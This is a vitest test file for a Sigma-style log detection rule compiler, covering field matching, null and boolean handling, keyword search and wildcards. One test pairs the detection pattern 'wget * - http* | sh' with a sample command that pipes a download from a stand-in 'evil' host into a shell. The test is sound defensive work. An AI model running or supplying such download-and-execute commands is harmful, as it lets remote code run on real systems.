import { describe, expect, it } from 'vitest';
import { compileOne, compileTexts, makeEvent, matcherOf, ruleWith } from '../test-support/rule-fixtures.js';

const webserver = 'category: webserver';

describe('detection items', () => {
  it('ANDs the fields of a map and ORs the values of a list', () => {
    const match = matcherOf(
      compileOne(
        ruleWith(
          `    selection:\n        cs-method: POST\n        sc-status:\n            - 401\n            - 403\n    condition: selection`,
          webserver,
        ),
      ),
    );
    expect(match(makeEvent({ http: { request: { method: 'post' }, response: { status_code: 403 } } }))).toBe(
      true,
    );
    expect(match(makeEvent({ http: { request: { method: 'POST' }, response: { status_code: 200 } } }))).toBe(
      false,
    );
    expect(match(makeEvent({ http: { request: { method: 'GET' }, response: { status_code: 401 } } }))).toBe(
      false,
    );
  });

  it('ORs the maps of a list', () => {
    const match = matcherOf(
      compileOne(
        ruleWith(
          `    selection:\n        - cs-method: DELETE\n        - c-uri|contains: /admin\n    condition: selection`,
          webserver,
        ),
      ),
    );
    expect(match(makeEvent({ http: { request: { method: 'DELETE' } } }))).toBe(true);
    expect(match(makeEvent({ url: { original: '/Admin/login' } }))).toBe(true);
    expect(match(makeEvent({ http: { request: { method: 'GET' } }, url: { original: '/' } }))).toBe(false);
  });

  it('matches numbers against numbers and numeric strings', () => {
    const match = matcherOf(
      compileOne(
        ruleWith(`    selection:\n        dst_port: 22\n    condition: selection`, 'category: firewall'),
      ),
    );
    expect(match(makeEvent({ destination: { port: 22 } }))).toBe(true);
    expect(match(makeEvent({ destination: { port: '22' } } as never))).toBe(true);
    expect(match(makeEvent({ destination: { port: 2222 } }))).toBe(false);
    expect(match(makeEvent({}))).toBe(false);
    // A quoted number is a string and matches the number's text.
    const quoted = matcherOf(
      compileOne(
        ruleWith(`    selection:\n        dst_port: '22'\n    condition: selection`, 'category: firewall'),
      ),
    );
    expect(quoted(makeEvent({ destination: { port: 22 } }))).toBe(true);
  });

  it('handles null (missing or null) and empty values', () => {
    const rule = compileOne(
      ruleWith(
        `    missing:\n        user.name: null\n    empty:\n        user.name: ''\n    condition: missing`,
        'product: linux\n    service: auth',
      ),
    );
    const match = matcherOf(rule);
    expect(match(makeEvent({}))).toBe(true);
    expect(match(makeEvent({ user: { name: null } } as never))).toBe(true);
    expect(match(makeEvent({ user: { name: '' } }))).toBe(false);
    expect(match(makeEvent({ user: { name: 'bob' } }))).toBe(false);
    const empty = matcherOf(
      compileOne(
        ruleWith(
          `    empty:\n        user.name: ''\n    condition: empty`,
          'product: linux\n    service: auth',
        ),
      ),
    );
    expect(empty(makeEvent({ user: { name: '' } }))).toBe(true);
    expect(empty(makeEvent({}))).toBe(false);
  });

  it('matches booleans against booleans and their text', () => {
    const match = matcherOf(
      compileOne(
        ruleWith(`    selection:\n        vigil.truncated: true\n    condition: selection`, 'product: linux'),
      ),
    );
    expect(match(makeEvent({ vigil: { schema_version: 1, truncated: true } }))).toBe(true);
    expect(match(makeEvent({ vigil: { schema_version: 1, truncated: 'TRUE' } } as never))).toBe(true);
    expect(match(makeEvent({ vigil: { schema_version: 1, truncated: false } }))).toBe(false);
  });

  it('matches any element of a multi-valued field', () => {
    const match = matcherOf(
      compileOne(
        ruleWith(
          `    selection:\n        event.category: authentication\n    condition: selection`,
          'product: linux',
        ),
      ),
    );
    expect(match(makeEvent({ event: { category: ['session', 'authentication'] } }))).toBe(true);
    expect(match(makeEvent({ event: { category: ['session'] } }))).toBe(false);
  });

  it('searches keywords in message and event.original, anywhere, case-insensitively', () => {
    const match = matcherOf(
      compileOne(
        ruleWith(
          `    keywords:\n        - 'Corrupted MAC on input'\n        - 'bad client public DH value'\n    condition: keywords`,
        ),
      ),
    );
    expect(match(makeEvent({ message: 'fatal: corrupted mac on input. [preauth]' }))).toBe(true);
    expect(match(makeEvent({ event: { original: 'Jan 1 sshd[1]: Bad client public DH value' } }))).toBe(true);
    expect(match(makeEvent({ message: 'Accepted password for bob' }))).toBe(false);
  });

  it('ANDs keywords under |all and keeps wildcards inside keywords', () => {
    const match = matcherOf(
      compileOne(
        ruleWith(
          `    keywords:\n        '|all':\n            - 'new user'\n            - 'UID=0,'\n    condition: keywords`,
          'product: linux',
        ),
      ),
    );
    expect(match(makeEvent({ message: 'new user: name=x, UID=0, GID=0' }))).toBe(true);
    expect(match(makeEvent({ message: 'new user: name=x, UID=1000, GID=0' }))).toBe(false);
    const glob = matcherOf(
      compileOne(
        ruleWith(`    keywords:\n        - 'wget * - http* | sh'\n    condition: keywords`, 'product: linux'),
      ),
    );
    expect(glob(makeEvent({ message: 'bash -c wget -q - http://evil/x | sh' }))).toBe(true);
  });

  it('reads dotted ECS names, nested or flattened, and never the prototype', () => {
    const match = matcherOf(
      compileOne(
        ruleWith(`    selection:\n        labels.app.tier: web\n    condition: selection`, 'product: linux'),
      ),
    );
    expect(match(makeEvent({ labels: { 'app.tier': 'web' } }))).toBe(true);
    const proto = matcherOf(
      compileOne(
        ruleWith(
          `    selection:\n        labels.constructor|exists: true\n    condition: selection`,
          'product: linux',
        ),
      ),
    );
    expect(proto(makeEvent({ labels: {} }))).toBe(false);
  });

  it('rejects nested maps and empty lists with their line', () => {
    const result = compileTexts(
      ruleWith(
        `    selection:\n        user:\n            name: root\n        dst_port: []\n    condition: selection`,
        'category: firewall',
      ),
    );
    expect(result.errors.map((error) => [error.code, error.line])).toEqual([
      ['invalid_value', 8],
      ['invalid_value', 10],
    ]);
  });
});
